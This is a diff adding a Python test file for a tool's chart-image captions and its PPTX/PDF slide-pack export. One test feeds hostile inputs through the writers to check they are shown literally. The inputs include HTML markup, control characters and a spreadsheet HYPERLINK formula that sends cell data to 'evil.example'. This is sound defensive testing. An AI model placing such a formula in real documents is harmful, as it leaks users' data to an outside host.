@@ -1,0 +1,365 @@
+"""Slide-ready output: chart images with their caption, and the meeting pack as PPTX and PDF.
+
+The image tests need Chromium. Without it they are skipped with the reason, unless
+TONLAGE_REQUIRE_BROWSER=1 (CI), where a missing browser is a failure.
+"""
+
+import io
+import os
+import re
+import shutil
+import xml.etree.ElementTree as ET
+from concurrent.futures import ThreadPoolExecutor
+
+import pandas as pd
+import plotly.graph_objects as go
+import pytest
+from PIL import Image
+
+from tonlage.report import deck, images
+from tonlage.report.deck import ChartSlide, Pack, QuoteCard, pack_pdf, pack_pptx, slide_count
+from tonlage.report.images import (SLIDE_HEIGHT, SLIDE_WIDTH, RenderUnavailable, render_figure,
+                                   render_figures, renderer_status, stamp_caption)
+
+CAPTION = ["Korpus <b>x</b> & Co · 12 Feb – 22 Oct 2025 · genre = commentary · 5 articles",
+           "Tone: lexicon rules, Tonlage 0.4"]
+HOSTILE = "<b>x</b> & <font size=80>"
+
+
+def app_like_figure(n_legend: int = 2) -> go.Figure:
+    """A figure laid out like components/charts.py: legend resting on the bottom of the figure."""
+    fig = go.Figure()
+    for i in range(n_legend):
+        fig.add_trace(go.Scatter(x=["2025-01-01", "2025-02-01", "2025-03-01"], y=[0.1 * i, -0.2, 0.3],
+                                 mode="markers", name=f"Series {i} with a fairly long legend label"))
+    fig.update_layout(
+        title=dict(text="Tone of each article over time", x=0, xanchor="left", font=dict(size=18)),
+        xaxis=dict(title=dict(text="Publication date")), yaxis=dict(title=dict(text="Tone")),
+        height=420, margin=dict(l=10, r=10, t=70, b=90), font=dict(size=14),
+        legend=dict(orientation="h", yref="container", y=0, yanchor="bottom", xanchor="left", x=0),
+    )
+    return fig
+
+
+# --- stamp_caption (no browser) ------------------------------------------------------------------
+
+def _caption_note(fig):
+    notes = [a for a in fig.layout.annotations if a.name == "caption"]
+    assert len(notes) == 1
+    return notes[0]
+
+
+def test_caption_is_stamped_escaped_and_the_callers_figure_is_unchanged():
+    fig = app_like_figure()
+    before = fig.to_json()
+    out = stamp_caption(fig, CAPTION)
+    assert fig.to_json() == before                      # the caller's figure is not touched
+    assert out is not fig
+    text = _caption_note(out).text
+    assert "Korpus &lt;b&gt;x&lt;/b&gt; &amp; Co" in text and "<b>x</b>" not in text
+    assert text.split("<br>")[1] == "Tone: lexicon rules, Tonlage 0.4"
+    assert (out.layout.width, out.layout.height) == (SLIDE_WIDTH, SLIDE_HEIGHT)
+    assert out.layout.font.size >= 16 and out.layout.title.font.size >= 22
+
+
+def test_legend_moves_above_the_caption_and_the_margin_makes_room():
+    fig = app_like_figure()
+    out = stamp_caption(fig, CAPTION)
+    cap_px = images._caption_height(2)
+    assert cap_px > 2 * images.CAPTION_FONT_SIZE
+    assert out.layout.legend.y == pytest.approx(cap_px / SLIDE_HEIGHT)
+    assert out.layout.legend.yref == "container" and out.layout.legend.yanchor == "bottom"
+    assert out.layout.margin.b >= 90 + cap_px
+    note = _caption_note(out)
+    # Hangs from the top of the plot area down to just above the bottom edge of the image.
+    assert note.yref == "paper" and note.y == 1 and note.yanchor == "bottom"
+    assert out.layout.margin.t - note.yshift == pytest.approx(SLIDE_HEIGHT - images._CAPTION_PAD)
+
+
+def test_caption_lines_are_cleaned_shortened_and_capped_at_three():
+    out = stamp_caption(app_like_figure(), ["a\x00b\nc", "x" * 500, "three", "four"])
+    lines = _caption_note(out).text.split("<br>")
+    assert lines[0] == "a b c"
+    assert len(lines[1]) <= images.CAPTION_MAX_CHARS and lines[1].endswith("…")
+    assert len(lines) == 3 and "four" not in lines
+
+
+def test_no_caption_adds_no_annotation_and_a_paper_legend_below_the_plot_is_moved():
+    fig = go.Figure(go.Bar(x=[1, 2], y=[3, 4], name="bars"))
+    assert not [a for a in stamp_caption(fig, []).layout.annotations if a.name == "caption"]
+    fig.update_layout(legend=dict(orientation="h", y=-0.2))
+    out = stamp_caption(fig, "one line")
+    assert out.layout.legend.yref == "container" and out.layout.legend.y > 0
+
+
+def test_without_a_browser_the_reason_is_plain(monkeypatch, tmp_path):
+    monkeypatch.setenv("BROWSER_PATH", str(tmp_path / "no-chromium-here"))
+    ok, why = renderer_status()
+    assert not ok and "Chromium" in why and "apt-get install chromium" in why
+    with pytest.raises(RenderUnavailable, match="Chromium"):
+        render_figure(app_like_figure(), caption=CAPTION)
+
+
+@pytest.mark.skipif(shutil.which("false") is None, reason="no `false` program to stand in for a broken browser")
+def test_a_browser_that_will_not_start_gives_a_plain_error_not_a_hang(monkeypatch):
+    monkeypatch.setattr(images, "_RENDERER", images._Renderer())   # not the process-wide browser
+    monkeypatch.setenv("BROWSER_PATH", shutil.which("false"))
+    with pytest.raises(RenderUnavailable, match="could not be started"):
+        render_figure(app_like_figure())
+    ok, why = renderer_status()
+    assert not ok and "could not be started" in why
+
+
+def test_unknown_format_is_refused():
+    with pytest.raises(ValueError):
+        render_figures([(app_like_figure(), ())], fmt="gif")
+
+
+# --- rendering (Chromium) --------------------------------------------------------------------------
+
+def _browser_or_skip():
+    ok, why = renderer_status()
+    if not ok:
+        if os.environ.get("TONLAGE_REQUIRE_BROWSER") == "1":
+            pytest.fail(f"TONLAGE_REQUIRE_BROWSER=1 but images cannot be made: {why}")
+        pytest.skip(why)
+
+
+@pytest.fixture(scope="module")
+def rendered():
+    """Two PNGs (one call) and one SVG, the SVG made from a second thread at the same time."""
+    _browser_or_skip()
+    figs = [app_like_figure(4), go.Figure(go.Bar(x=["a", "b"], y=[1, 2]))]
+    try:
+        with ThreadPoolExecutor(2) as pool:
+            svg = pool.submit(render_figure, figs[0], fmt="svg", caption=CAPTION)
+            pngs = pool.submit(render_figures, [(f, CAPTION) for f in figs])
+            return {"pngs": pngs.result(), "svg": svg.result()}
+    except RenderUnavailable as e:
+        if os.environ.get("TONLAGE_REQUIRE_BROWSER") == "1":
+            raise
+        pytest.skip(str(e))
+
+
+def test_png_is_full_hd_and_one_per_figure(rendered):
+    assert len(rendered["pngs"]) == 2
+    for data in rendered["pngs"]:
+        with Image.open(io.BytesIO(data)) as im:
+            assert im.format == "PNG" and im.size == (1920, 1080)
+    with Image.open(io.BytesIO(rendered["pngs"][0])) as im:
+        # Something is drawn near the bottom edge (the caption), not just white.
+        strip = im.convert("L").crop((0, 1080 - 60, 900, 1080 - 10))
+        assert strip.getextrema()[0] < 200
+
+
+def _translate(el) -> tuple[float, float]:
+    m = re.search(r"translate\(([-\d.]+),\s*([-\d.]+)\)", el.get("transform", ""))
+    return (float(m.group(1)), float(m.group(2))) if m else (0.0, 0.0)
+
+
+def test_svg_has_slide_size_the_literal_caption_and_nothing_overlaps(rendered):
+    root = ET.fromstring(rendered["svg"])
+    assert float(root.get("width")) == SLIDE_WIDTH and float(root.get("height")) == SLIDE_HEIGHT
+    text = "".join(root.itertext())
+    assert "Korpus <b>x</b> & Co" in text and "Tonlage 0.4" in text
+    ns = "{http://www.w3.org/2000/svg}"
+    groups = list(root.iter(f"{ns}g"))
+    legend = next(g for g in groups if g.get("class") == "legend")
+    legend_top = _translate(legend)[1]
+    legend_bottom = legend_top + float(next(r for r in legend.iter(f"{ns}rect")
+                                            if r.get("class") == "bg").get("height"))
+    caption = next(g for g in groups if g.get("class") == "annotation" and "Korpus" in "".join(g.itertext()))
+    box = next(g for g in caption.iter(f"{ns}g") if g.get("class") == "cursor-pointer")
+    caption_top = _translate(box)[1]
+    caption_bottom = caption_top + float(next(r for r in box.iter(f"{ns}rect")).get("height"))
+    x_title = next(t for t in root.iter(f"{ns}text") if t.get("class") == "xtitle")
+    # x-axis title above the legend (two rows), legend above the caption, caption inside the image.
+    assert float(x_title.get("y")) <= legend_top + 4
+    assert legend_bottom <= caption_top + 1
+    assert caption_bottom <= SLIDE_HEIGHT
+
+
+# --- the pack --------------------------------------------------------------------------------------
+
+HEADINGS = dict(findings="Befunde", quotes="Zitate", method="Methode", limits="Grenzen", tone="Ton",
+                no_image="Keine Diagrammbilder auf diesem Server; hier die Daten.",
+                made_with="Erstellt mit Tonlage", quote_open="„", quote_close="“")
+FINDING_UMLAUT = "Ton gegenüber Putin … −0,12"
+
+
+def tiny_png() -> bytes:
+    buf = io.BytesIO()
+    Image.new("RGB", (160, 90), "#0072B2").save(buf, format="PNG")
+    return buf.getvalue()
+
+
+def make_pack(**over) -> Pack:
+    table = pd.DataFrame({"Woche": pd.date_range("2025-02-10", periods=20, freq="W-MON"),
+                          "Ton": [-0.12] * 20, "Artikel": range(20), "Hinweis": [HOSTILE] * 20,
+                          "a": 1, "b": 2, "c": 3})
+    base = dict(
+        title="Ukraine-Berichterstattung 2025",
+        subtitle="Mitgelieferter Korpus · 12. Feb. – 22. Okt. 2025 · 5 Artikel",
+        headings=HEADINGS,
+        charts=[ChartSlide("Ton im Zeitverlauf", tiny_png(), "Korpus · 2025 · 5 Artikel",
+                           "Jeder Punkt ist ein Artikel."),
+                ChartSlide("Ton pro Woche", None, "Korpus · 2025 · 5 Artikel", "Die Daten dahinter.",
+                           table=table)],
+        findings=[f"{FINDING_UMLAUT}: überwiegend negativ.", "Kommentare sind negativer als Berichte.",
+                  "Nach dem Gipfel wird der Ton freundlicher."],
+        quotes=[QuoteCard(f"Zitat Nummer {i} über die Lage.", f"Titel {i}", "Anna Müller", "2025-03-04",
+                          -0.12 if i else None, "Die Zeit") for i in range(4)],
+        method=["Ton: Lexikon-Regeln mit Verneinung.", "Werte von −1 bis +1."],
+        limits=["Ironie wird nicht erkannt."],
+        date_made="30. Oktober 2025",
+    )
+    base.update(over)
+    return Pack(**base)
+
+
+def pptx_texts(data: bytes) -> list[str]:
+    from pptx import Presentation
+
+    prs = Presentation(io.BytesIO(data))
+    out = []
+    for slide in prs.slides:
+        parts = []
+        for shape in slide.shapes:
+            if shape.has_text_frame:
+                parts.append(shape.text_frame.text)
+            if shape.has_table:
+                parts += [c.text for r in shape.table.rows for c in r.cells]
+        out.append(" ".join(" ".join(parts).split()))
+    return out
+
+
+def pdf_pages(data: bytes):
+    import pypdf
+
+    reader = pypdf.PdfReader(io.BytesIO(data))
+    return reader.pages, [" ".join(p.extract_text().split()) for p in reader.pages]
+
+
+def test_slide_count_counts_every_part():
+    pack = make_pack()
+    assert slide_count(pack) == 1 + 2 + 1 + 2 + 1
+    assert slide_count(make_pack(findings=[], quotes=[], charts=[])) == 2
+    assert slide_count(make_pack(findings=[f"F{i}" for i in range(7)], quotes=[pack.quotes[0]] * 7)) == \
+        1 + 2 + 2 + 3 + 1
+    assert slide_count(make_pack(findings=["", "  ", "real"])) == 1 + 2 + 1 + 2 + 1  # blanks are dropped
+
+
+def test_the_writers_make_exactly_slide_count_slides():
+    from pptx import Presentation
+
+    for pack in (make_pack(findings=[], quotes=[], charts=[]),
+                 make_pack(findings=[f"F{i}" for i in range(13)], quotes=[make_pack().quotes[0]] * 7)):
+        prs = Presentation(io.BytesIO(pack_pptx(pack)))
+        assert len(prs.slides) == slide_count(pack) == len(pdf_pages(pack_pdf(pack))[0])
+
+
+def test_pptx_has_the_slides_and_the_text():
+    from pptx import Presentation
+
+    pack = make_pack()
+    data = pack_pptx(pack)
+    prs = Presentation(io.BytesIO(data))
+    assert len(prs.slides) == slide_count(pack)
+    assert (prs.slide_width, prs.slide_height) == (12192000, 6858000)  # 13.333 x 7.5 in
+    texts = pptx_texts(data)
+    everything = " ".join(texts)
+    assert pack.title in texts[0] and "Erstellt mit Tonlage" in texts[0] and "30. Oktober 2025" in texts[0]
+    for finding in pack.findings:
+        assert finding in everything
+    for q in pack.quotes:
+        assert f"„{q.text}“" in everything
+    assert "Ton −0.12" in everything
+    for line in [*pack.method, *pack.limits]:
+        assert line in everything
+    assert "Keine Diagrammbilder" in texts[2] and HOSTILE in texts[2] and "−0.12" in texts[2]
+    # every slide but the first has a real title
+    assert [s.shapes.title.text_frame.text for s in prs.slides][1:3] == ["Ton im Zeitverlauf", "Ton pro Woche"]
+    pictures = [sh for sh in prs.slides[1].shapes if sh.shape_type == 13]
+    assert len(pictures) == 1 and pictures[0].width / pictures[0].height == pytest.approx(16 / 9, rel=0.02)
+    table = next(sh for sh in prs.slides[2].shapes if sh.has_table).table
+    assert len(table.rows) == deck.TABLE_ROWS + 1 and len(table.columns) == deck.TABLE_COLUMNS
+
+
+def test_every_shape_stays_on_its_slide():
+    from pptx import Presentation
+
+    prs = Presentation(io.BytesIO(pack_pptx(make_pack(title="T " * 400))))
+    for slide in prs.slides:
+        for shape in slide.shapes:
+            assert shape.left >= 0 and shape.top >= 0
+            assert shape.left + shape.width <= prs.slide_width
+            assert shape.top + shape.height <= prs.slide_height
+
+
+def test_pdf_has_one_landscape_16_9_page_per_slide_and_the_text():
+    pack = make_pack()
+    pages, texts = pdf_pages(pack_pdf(pack))
+    assert len(pages) == slide_count(pack)
+    for page in pages:
+        w, h = float(page.mediabox.width), float(page.mediabox.height)
+        assert w > h and w / h == pytest.approx(16 / 9, rel=0.001)
+    everything = " ".join(texts)
+    assert pack.title in texts[0]
+    assert FINDING_UMLAUT in everything               # umlaut, ellipsis and real minus survive
+    assert "„Zitat Nummer 1 über die Lage.“" in everything
+    assert "Ironie wird nicht erkannt." in everything
+    assert "Keine Diagrammbilder" in texts[2] and HOSTILE in texts[2]
+
+
+def test_hostile_text_goes_through_both_writers_literally():
+    long_quote = ("Die Regierung hat erneut betont, dass sie am Kurs festhalte. " * 60)[:3000]
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
+    pack = make_pack(
+        title=HOSTILE,
+        subtitle="\x00\x07 control \x1b[31m",
+        findings=[HOSTILE, "\x00\x07 control", formula],
+        quotes=[QuoteCard(long_quote, HOSTILE, "\x00\x07 control", "2025", 0.3),
+                QuoteCard(HOSTILE, formula, "x", "", None)],
+        method=[HOSTILE], limits=["\ud800 lone surrogate \ufffe"],
+    )
+    pptx = pack_pptx(pack)
+    texts = pptx_texts(pptx)
+    everything = " ".join(texts)
+    assert texts[0].startswith(HOSTILE)
+    assert formula in everything and "\x00" not in everything and "\x07" not in everything
+    assert "control" in everything and "lone surrogate" in everything
+    quote = next(t for t in texts if "Die Regierung" in t)
+    shown = quote[quote.index("„"):quote.index("“") + 1]
+    assert 100 < len(shown) < 1000 and shown.endswith("…“")     # cut, at a word boundary
+    assert shown[-3] != " " and long_quote.startswith(shown[1:-2])
+
+    pages, ptexts = pdf_pages(pack_pdf(pack))
+    assert len(pages) == slide_count(pack)
+    pdf_all = " ".join(ptexts)
+    assert ptexts[0].startswith(HOSTILE)              # shown literally, not read as markup
+    assert pdf_all.count(HOSTILE) >= 4
+    assert formula in pdf_all and "\x07" not in pdf_all
+    assert "…“" in pdf_all
+
+
+def test_long_titles_are_shortened_and_glyphs_the_font_lacks_are_replaced():
+    pack = make_pack(charts=[ChartSlide("Ein sehr langer Titel " * 20, tiny_png(), "c", "w")],
+                     limits=["Łódź, Śląsk → 😀"])
+    texts = pptx_texts(pack_pptx(pack))
+    heading = texts[1].split(" 2 / ")[0]
+    assert heading.endswith("…") and len(heading) < 100
+    _, ptexts = pdf_pages(pack_pdf(pack))
+    assert "Łódz, Slask -> ?" in ptexts[-1]   # ź ą ś → z a s (Vera lacks them), emoji → ?
+
+
+def test_an_image_that_is_not_one_becomes_the_table():
+    table = pd.DataFrame({"Woche": ["2025-01"], "Ton": [0.5]})
+    pack = make_pack(charts=[ChartSlide("Kaputt", b"not a png", "c", "w", table=table)])
+    texts = pptx_texts(pack_pptx(pack))
+    assert "Keine Diagrammbilder" in texts[1] and "0.50" in texts[1]
+    assert len(pdf_pages(pack_pdf(pack))[0]) == slide_count(pack)
+
+
+def test_missing_headings_are_named():
+    with pytest.raises(ValueError, match="no_image"):
+        pack_pptx(make_pack(headings={k: v for k, v in HEADINGS.items() if k != "no_image"}))
